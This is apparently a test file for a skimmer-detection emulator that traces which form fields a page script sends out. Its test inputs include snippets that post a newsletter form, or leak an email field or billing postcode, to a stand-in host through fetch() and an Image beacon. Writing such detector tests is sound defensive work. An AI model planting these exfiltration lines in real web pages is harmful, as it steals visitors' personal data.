import assert from 'node:assert/strict';
import { flowsOf } from './sandbox-of-tests.ts';

describe('emulator: forms and fields that are not of the card', () => {
  it('puts no card into forms that are for something else', async () => {
    const flows = await flowsOf(`
      document.querySelector('form#newsletter').addEventListener('submit', function (event) {
        event.preventDefault();
        fetch('https://c.example/', { method: 'POST', body: new FormData(this) });
      });`);
    assert.ok(flows.some(({ field }) => field === 'email'));
    assert.deepEqual(
      flows.filter(({ field }) => field.startsWith('card') || field === 'password'),
      [],
    );
  });

  it('tells an address from the name of who has it', async () => {
    const flows = await flowsOf(
      "new Image().src = 'https://c.example/?' + document.querySelector('input[type=email]').value",
    );
    assert.deepEqual(
      flows.map(({ field }) => field),
      ['email'],
    );
  });

  it('calls nothing enciphered for a postcode in clear', async () => {
    const flows = await flowsOf(
      "new Image().src = 'https://c.example/?' + document.querySelector('#billing_postcode').value",
    );
    assert.deepEqual(flows, []);
  });
});
